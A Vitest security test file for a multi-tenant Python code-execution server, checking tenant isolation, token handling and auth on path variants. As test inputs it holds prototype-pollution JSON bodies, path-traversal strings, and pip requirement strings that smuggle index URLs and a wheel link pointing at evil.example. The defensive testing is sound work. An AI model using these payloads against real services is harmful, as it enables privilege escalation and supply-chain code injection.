import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type PyexecServer } from '../../src/server/index.js';
import { testPython } from '../helpers/executors.js';

// What one tenant of the service can do to another, and what a request can do to the server.
const ALICE = 'alice-token-0123456789abcdef';
const MALLORY = 'mallory-token-0123456789abcdef';
let server: PyexecServer;
let url: string;

beforeAll(async () => {
  server = createServer({
    logLevel: 'warn',
    port: 0,
    tokens: [ALICE, MALLORY],
    rateLimit: false,
    executor: { python: testPython, poolSize: 2 },
  });
  url = `http://127.0.0.1:${(await server.listen()).port}`;
});
afterAll(() => server.close());

const post = (path: string, body: unknown, token: string, extra: Record<string, string> = {}) =>
  fetch(`${url}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${token}`, ...extra },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });

describe('the HTTP service against a hostile tenant', () => {
  it("cannot list or stop another tenant's call, even knowing its id", async () => {
    const running = post(
      '/v1/execute',
      { code: 'import time\ntime.sleep(1)\n"alice finished"', executionId: 'alice-1' },
      ALICE,
    );
    for (let tries = 0; server.executor.status().running.length === 0; tries++) {
      if (tries > 400) throw new Error('never ran');
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    const seen = (await (
      await fetch(`${url}/v1/executions`, { headers: { authorization: `Bearer ${MALLORY}` } })
    ).json()) as { running: unknown[] };
    expect(seen.running).toEqual([]);
    expect(await (await post('/v1/executions/alice-1/stop', {}, MALLORY)).json()).toEqual({ stopped: false });
    expect(((await (await running).json()) as { value: string }).value).toBe("'alice finished'");
  });

  it("cannot reach another tenant's session: not listed, not run in, not forked, not its files", async () => {
    const created = await post('/v1/sessions', { id: 'alice-notes' }, ALICE);
    expect(created.status).toBe(201);
    await post('/v1/sessions/alice-notes/execute', { code: 'secret = "s3cret"' }, ALICE);
    const auth = { authorization: `Bearer ${MALLORY}` };
    for (const attempt of [
      fetch(`${url}/v1/sessions/alice-notes`, { headers: auth }),
      post('/v1/sessions/alice-notes/execute', { code: 'secret' }, MALLORY),
      post('/v1/sessions/alice-notes/fork', {}, MALLORY),
      post('/v1/sessions/alice-notes/restart', {}, MALLORY),
      fetch(`${url}/v1/sessions/alice-notes/files/`, { headers: auth }),
      fetch(`${url}/v1/sessions/alice-notes`, { method: 'DELETE', headers: auth }),
    ])
      expect((await attempt).status).toBe(404);
    const listed = (await (await fetch(`${url}/v1/sessions`, { headers: auth })).json()) as { sessions: unknown[] };
    expect(listed.sessions).toEqual([]);
    const still = (await (await post('/v1/sessions/alice-notes/execute', { code: 'secret' }, ALICE)).json()) as {
      value: string;
    };
    expect(still.value).toBe("'s3cret'");
  });

  it('gets 400 for a body that poisons prototypes, and the server serves on', async () => {
    const poisoned = await post('/v1/execute', '{"code":"1","__proto__":{"isAdmin":true}}', MALLORY);
    expect(poisoned.status).toBe(400);
    const constructor = await post('/v1/execute', '{"code":"1","constructor":{"prototype":{"x":1}}}', MALLORY);
    expect(constructor.status).toBe(400);
    expect((await post('/v1/execute', { code: '1' }, MALLORY)).status).toBe(200);
  });

  it('never logs or echoes a token, right or wrong', async () => {
    const wrong = await fetch(`${url}/v1/executions`, {
      headers: { authorization: 'Bearer guess-0123456789abcdefgh' },
    });
    const text = await wrong.text();
    expect(text).not.toContain('guess-0123456789abcdefgh');
    expect(text).not.toContain(ALICE);
  });
});

describe('the open paths and installs against a hostile caller', () => {
  it('gets nothing but the playground without a token, however the path is spelled', async () => {
    const guarded = createServer({ port: 0, tokens: [ALICE], playground: true, logLevel: 'warn' });
    const base = `http://127.0.0.1:${(await guarded.listen()).port}`;
    try {
      expect((await fetch(`${base}/?x=1`)).status).toBe(200);
      for (const path of [
        '/playground.js/../v1/executions',
        '//v1/executions',
        '/./v1/executions',
        '/%2e/v1/executions',
        '/status?/=/',
        '/v1/executions#/',
        '/metrics',
      ])
        expect([401, 404], path).toContain((await fetch(`${base}${path}`)).status);
    } finally {
      await guarded.close();
    }
  });

  it('cannot smuggle pip options, URLs or names off the allow list into an install', async () => {
    const installing = createServer({
      port: 0,
      tokens: [MALLORY],
      allowInstall: { allow: ['tabulate'], indexUrl: 'http://127.0.0.1:9/simple' },
      logLevel: 'warn',
      executor: { python: testPython },
    });
    const base = `http://127.0.0.1:${(await installing.listen()).port}`;
    const install = async (requirements: unknown) => {
      const response = await fetch(`${base}/v1/packages/install`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${MALLORY}` },
        body: JSON.stringify({ requirements }),
      });
      return [response.status, ((await response.json()) as { error: { code: string } }).error.code];
    };
    try {
      expect(await install(['tabulate --index-url=http://evil.example/simple'])).toEqual([400, 'INVALID_REQUIREMENT']);
      expect(await install(['tabulate\n--extra-index-url=http://evil.example'])).toEqual([400, 'INVALID_REQUIREMENT']);
      expect(await install(['-rrequirements.txt'])).toEqual([400, 'INVALID_REQUIREMENT']);
      expect(await install(['tabulate @ https://evil.example/tabulate.whl'])).toEqual([400, 'INVALID_REQUIREMENT']);
      expect(await install(['./tabulate'])).toEqual([400, 'INVALID_REQUIREMENT']);
      expect(await install(['tabulate', 'evil-package'])).toEqual([403, 'INSTALL_NOT_ALLOWED']);
      expect(await install(['tabulate;python_version>"0"', 'evil_package[x]>=1'])).toEqual([
        403,
        'INSTALL_NOT_ALLOWED',
      ]);
      expect(await install({ length: 1, 0: 'evil' })).toEqual([400, 'INVALID_OPTION']);
    } finally {
      await installing.close();
    }
  });
});
